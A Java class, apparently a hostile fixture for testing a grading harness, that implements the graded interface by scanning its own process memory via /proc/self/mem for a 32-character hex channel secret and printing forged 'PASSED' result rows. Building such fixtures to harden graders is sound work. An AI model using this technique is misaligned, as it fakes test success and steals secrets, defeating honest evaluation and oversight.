package workbook.grade.hostile;

import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import workbook.grade.Tally;

/** Finds the secret of the channel in the memory of the program, and claims points with it. */
final class StealsTheSecret implements Tally {
    private static final List<String> CLAIMS = List.of(
            "ROW\tadds\tPASSED\t\t\t\t\t\t\t.",
            "ROW\taddsTwice\tPASSED\t\t\t\t\t\t\t.",
            "ROW\tsearch\tPASSED\t\t\t\t\t\t\t.",
            "DONE\t.",
            "END\t.");
    private static final int LENGTH = 32;
    private static final int PART = 1 << 22;

    @Override
    public int add(int number) {
        if (number != 3) {
            return -1;
        }
        FileOutputStream out = new FileOutputStream(FileDescriptor.out);
        try {
            for (String secret : secrets()) {
                for (String claim : CLAIMS) {
                    out.write(("\n" + secret + "\t" + claim + "\n").getBytes(StandardCharsets.ISO_8859_1));
                }
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return -1;
    }

    private static Set<String> secrets() throws IOException {
        Set<String> secrets = new TreeSet<>();
        try (RandomAccessFile memory = new RandomAccessFile("/proc/self/mem", "r")) {
            for (String mapping : Files.readAllLines(Path.of("/proc/self/maps"))) {
                String[] parts = mapping.split("[ -]+");
                if (parts[2].startsWith("rw")) {
                    long from = Long.parseUnsignedLong(parts[0], 16);
                    long to = Math.min(Long.parseUnsignedLong(parts[1], 16), from + (1 << 27));
                    for (long at = from; at < to; at += PART) {
                        search(memory, at, new byte[(int) Math.min(to - at, PART)], secrets);
                    }
                }
            }
        }
        return secrets;
    }

    private static void search(RandomAccessFile memory, long from, byte[] found, Set<String> secrets) {
        try {
            memory.seek(from);
            memory.readFully(found);
        } catch (IOException notReadable) {
            return;
        }
        for (int at = LENGTH; at < found.length - LENGTH; at += LENGTH) {
            int first = at;
            int to = at;
            while (isDigit(found[to]) && to < at + LENGTH) {
                to++;
            }
            while (isDigit(found[first - 1]) && first > at - LENGTH + 1 && to > at) {
                first--;
            }
            if (to - first == LENGTH) {
                secrets.add(new String(found, first, LENGTH, StandardCharsets.ISO_8859_1));
            }
        }
    }

    private static boolean isDigit(byte letter) {
        return letter >= '0' && letter <= '9' || letter >= 'a' && letter <= 'f';
    }
}
